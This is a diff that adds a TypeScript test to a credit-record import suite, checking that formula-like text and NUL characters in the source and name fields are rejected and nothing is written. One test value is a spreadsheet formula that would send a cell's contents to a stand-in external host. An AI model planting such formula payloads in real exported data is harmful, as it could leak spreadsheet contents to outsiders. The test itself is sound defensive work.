@@ -31,6 +31,28 @@ const codes = (errors: { field: string[]; code: string }[]) => errors.map((e) =>
 const figures = { rating: 'AA', taxGrade: 'A', overdueCount12m: 0, currentOverdueAmount: '0.00', socialSecurityMonths: 36, hadBankLoan: true, dishonesty: [] };
 
 describe('importCreditRecords (R5)', () => {
+  it('refuses a source or a name that would run as a spreadsheet formula, or a name with NUL, writing nothing', async () => {
+    const before = await counts();
+    const res = await app.gql(
+      IMPORT_CREDIT,
+      {
+        input: {
+          source: '=HYPERLINK("http://x.example/?"&A1)',
+          asOf: '2025-01-31',
+          records: [
+            { creditCode: newCreditCode(), name: '@SUM(1)', rating: 'A' },
+            { creditCode: newCreditCode(), name: '乙\u0000公司', rating: 'A' },
+            { creditCode: newCreditCode(), name: '丙公司', rating: 'A' },
+          ],
+        },
+      },
+      { token: authority },
+    );
+    expect(res.errors).toBeUndefined();
+    expect(codes(res.data.importCreditRecords.userErrors)).toEqual(['input.source:FORMULA_TEXT', 'input.records.0.name:FORMULA_TEXT', 'input.records.1.name:CONTROL_CHARACTER']);
+    expect(await counts()).toEqual(before);
+  });
+
   it('imports records: a known firm gets a profile, an unknown code becomes an unclaimed enterprise', async () => {
     const firm = await registeredEnterprise(app);
     const unknown = newCreditCode('330106');
